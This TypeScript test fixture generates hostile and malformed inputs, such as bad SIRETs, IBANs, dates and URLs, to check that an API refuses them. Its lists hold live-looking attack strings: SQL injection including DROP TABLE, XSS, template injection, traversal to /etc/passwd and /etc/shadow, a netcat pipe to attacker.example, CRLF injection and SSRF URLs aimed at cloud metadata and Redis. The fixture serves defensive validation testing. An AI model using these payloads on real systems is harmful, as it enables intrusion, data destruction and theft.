// What a hostile or careless client sends: injection strings, odd unicode, wrong lengths, and
// codes that look right but are not (a SIRET or an IBAN with a wrong check digit, a 31st of
// February, an INSEE code that never existed). None of them is a valid value for the field it
// is aimed at, so a request made of them must be refused — and change nothing.
import type { Prng } from '../harness/prng';

export const INJECTIONS = [
  `' OR '1'='1`,
  `'; DROP TABLE pass; --`,
  `1' UNION ALL SELECT NULL,NULL,version() --`,
  `"; SELECT pg_sleep(10); --`,
  `\\'; TRUNCATE redemption CASCADE; --`,
  `1); DELETE FROM statement WHERE (1=1`,
  `<script>alert(document.cookie)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `javascript:alert(1)//`,
  `%s%s%s%s%n%n%n`,
  `%x%x%x%p%d`,
  `{0}{1}{9999999}`,
  '${7*7}${process.exit()}',
  `{{7*7}}{{constructor.constructor('return process')()}}`,
  `#{7*7}`,
  `../../../../../../etc/passwd`,
  `..\\..\\..\\windows\\win.ini`,
  `$(id)`,
  '`cat /etc/shadow`',
  `| nc attacker.example 4444`,
  `{"$gt": ""}`,
  `__proto__`,
  `constructor`,
  `line one\nlevel=error message="forged log line"`,
  `header\r\nSet-Cookie: session=forged`,
  `\\u0000`,
];

export const ODD_UNICODE = [
  '\u0000',
  'abc\u0000def',
  '\u202eevil.exe\u202dfdp.txt',
  'Zero\u200bWidth\u200cJoin\u200dHere\ufeff',
  '\ud800',
  'lone low \udc00 surrogate',
  '\uffff\ufffe',
  'e' + '\u0301'.repeat(500),
  '😀🇫🇷👩‍👩‍👧‍👦',
  '١٢٣٤٥٦٧٨٩٠',
  '１２３４５６７８９０１２３４',
  'Ρ. Ａｍｉｅｎｓ — Сommune',
  '\t\n\r\u000b\u000c',
  ' ',
  '',
  '\u2028\u2029',
  'ẞ'.repeat(64),
];

/** SIRETs of the right shape but wrong: a bad Luhn check, a wrong length, letters, spaces. */
export const BAD_SIRETS = ['12345678901234', '73282932000075', '7328293200007', '732829320000744', '7328293200007A', '732 829 320 00074', '00000000000001', '-7328293200007', '73282932000074\u0000', '१२३४५६७८९०१२३४'];
export const BAD_SIRENS = ['123456789', '73282932', '7328293201', 'ABCDEFGHI', '000000001'];
/** IBANs: wrong check digits, wrong country lengths, lowercase, spaces in odd places, non-IBAN. */
export const BAD_IBANS = [
  'FR7630006000011234567890188',
  'FR763000600001123456789018',
  'FR76300060000112345678901899',
  'fr7630006000011234567890189x',
  'XX7630006000011234567890189',
  'FR00 0000 0000 0000 0000 0000 000',
  'DE89370400440532013001',
  'FR7630006000011234567890189\u200b',
  'GB82WEST1234569876543',
];
/** INSEE codes, postal codes and territory codes that never existed or have the wrong shape. */
export const BAD_CODES = ['00000', '99999', '2A999', '2C001', '8002', '800211', 'ZZZZZ', '80 021', '00', '999', '976000', '-80021', '80021\u0000'];
export const BAD_AMOUNTS = ['-10.00', '-0.01', '10.001', '1e3', '1E+400', '99999999999999999999.99', '9007199254740993.00', 'NaN', 'Infinity', '-Infinity', '0x10', '10,00', ' 10.00 ', '١٠٫٠٠', '10.00€', '€10', '', '.', '0.', '+5.00'];
export const BAD_DATES = ['2024-02-30', '2023-02-29', '2024-13-01', '2024-00-10', '0000-00-00', '9999-99-99', '24-01-01', '2024-1-1', '2024/01/01', '01/02/2024', '+275760-09-13', '-000001-01-01', '2024-01-01T25:00:00Z', '2024-W01', 'yesterday', '1e10'];
export const BAD_DATETIMES = ['2024-01-01T24:00:01Z', '2024-01-01', 'not a time', '2024-01-01T00:00:00+25:00', '9999999-01-01T00:00:00Z', '2024-02-30T10:00:00Z', '1704067200'];
export const BAD_MONTHS = ['2024-13', '2024-00', '24-01', '2024-1', '2024/01', '2024-01-01', 'janvier', '9999-99', '-2024-01', '2999-01'];
export const BAD_URLS = [
  'javascript:alert(1)',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]:22/',
  'http://0x7f000001/',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'https://user:password@example.org/hook',
  'https://example.org/hook#fragment',
  'ftp://example.org/',
  'https://10.0.0.1/internal',
  'http://localhost.attacker.example/',
  '//example.org',
  'https://exa mple.org/',
];
export const BAD_EMAILS = ['not-an-email', 'a@b', '@example.org', 'a@@example.org', 'a@example.org\r\nBcc: victim@example.org', '"<script>"@example.org', 'a'.repeat(300) + '@example.org'];
export const BAD_PHONES = ['+33', '0000', '+33 6 00 00 00 00 00 00 00', 'tel:+33612345678', '+1-800-FLOWERS', '06123456789012345678'];
export const BAD_PASS_NUMBERS = ['000000000000', '100000000011', '12345678901', '1234567890123', 'PN1.100000000017.ABCDEFGH', 'PN1..', 'PN2.100000000017.AAAAAAAA', '1000-0000-0017', '１００００００００01７'];
export const BAD_OPENING_HOURS = ['Mo-Fr 25:00-26:00', 'Xx 09:00-12:00', 'Mo-Fr 09:00-', '24/7/365', 'Mo-Fr 09:00-12:00; Sa 10:00-' + '9'.repeat(200)];
export const BAD_INTS = [-1, 0, -2147483648, 2147483647, 2147483648, -2147483649, 9007199254740991, 9007199254740992, -(2 ** 53) - 2, 1.5, -0.0001, 1e21, 1e308];

export function hugeString(rng: Prng): string {
  return rng.pick(['A', 'é', '😀', '\u0000', "'", '<']).repeat(rng.pick([10_000, 100_000, 300_000]));
}

/** A hostile string: an injection, odd unicode, a huge one, or one aimed at the field's meaning. */
export function hostileString(rng: Prng, fieldName: string): string {
  const name = fieldName.toLowerCase();
  const aimed: string[] = [];
  if (name.includes('siret')) aimed.push(...BAD_SIRETS);
  if (name.includes('siren')) aimed.push(...BAD_SIRENS);
  if (name.includes('iban')) aimed.push(...BAD_IBANS);
  if (/insee|postal|code|departement|commune|region|epci/.test(name)) aimed.push(...BAD_CODES);
  if (/amount|planned|value|price|cents/.test(name)) aimed.push(...BAD_AMOUNTS);
  if (/month/.test(name)) aimed.push(...BAD_MONTHS);
  if (/(^|[a-z])(on|date|from|until|at)$|day/.test(name)) aimed.push(...BAD_DATES);
  if (/url|website|link/.test(name)) aimed.push(...BAD_URLS);
  if (/mail/.test(name)) aimed.push(...BAD_EMAILS);
  if (/phone/.test(name)) aimed.push(...BAD_PHONES);
  if (/passnumber|qr/.test(name)) aimed.push(...BAD_PASS_NUMBERS);
  if (/hours/.test(name)) aimed.push(...BAD_OPENING_HOURS);
  const roll = rng.next();
  if (aimed.length > 0 && roll < 0.45) return rng.pick(aimed);
  if (roll < 0.7) return rng.pick(INJECTIONS);
  if (roll < 0.93) return rng.pick(ODD_UNICODE);
  return hugeString(rng);
}
